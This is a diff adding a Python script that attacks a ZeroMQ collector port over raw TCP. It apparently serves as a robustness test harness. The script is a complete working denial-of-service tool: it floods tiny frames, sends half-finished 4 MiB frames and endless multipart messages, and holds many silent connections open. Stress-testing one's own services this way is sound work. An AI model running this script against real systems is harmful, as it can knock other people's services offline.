@@ -1,0 +1,66 @@
+"""Attack a collector's port over raw TCP: python wire_attack.py KIND HOST PORT CONNECTIONS. Ends when stdin is closed.
+
+KIND: flood   frames of two bytes, as fast as they are taken, and a new connection whenever one is closed
+      half    one frame that says 4 MiB and never ends, once on each connection
+      parts   parts of a message that never ends
+      silent  a handshake, and nothing after it
+"""
+
+import contextlib
+import select
+import socket
+import sys
+
+GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
+READY = b"\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER\x08Identity\x00\x00\x00\x00"
+HANDSHAKE = GREETING + b"\x04" + bytes([len(READY)]) + READY
+HALF_BYTES = 4 * 1024 * 1024
+
+PAYLOADS = {
+    "flood": b"\x00\x02ab" * 16_384,
+    "half": b"\x02" + (HALF_BYTES + 1).to_bytes(8, "big") + bytes(HALF_BYTES),
+    "parts": b"\x01\x00" * 32_768,
+    "silent": b"",
+}
+ENDLESS = {"flood", "parts"}
+
+
+def connect(host: str, port: int) -> socket.socket:
+    """Connect, and say the handshake."""
+    connection = socket.create_connection((host, port))
+    connection.sendall(HANDSHAKE)
+    connection.setblocking(False)
+    return connection
+
+
+def send(connection: socket.socket, left: bytes) -> bytes:
+    """Send what is taken; return the rest."""
+    with contextlib.suppress(BlockingIOError):
+        return left[connection.send(left) :]
+    return left
+
+
+def main() -> None:
+    """Attack until stdin is closed."""
+    kind, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+    payload = PAYLOADS[kind]
+    left = {connect(host, port): payload for _ in range(count)}
+    print("attacking", flush=True)
+    while True:
+        wanting = [one for one, rest in left.items() if rest]
+        _, writable, _ = select.select([], wanting, [], 0.05)
+        if select.select([sys.stdin], [], [], 0)[0]:
+            return
+        for connection in writable:
+            try:
+                rest = send(connection, left[connection])
+                left[connection] = rest or (payload if kind in ENDLESS else b"")
+            except OSError:
+                del left[connection]
+                connection.close()
+                with contextlib.suppress(OSError):
+                    left[connect(host, port)] = payload
+
+
+if __name__ == "__main__":
+    main()
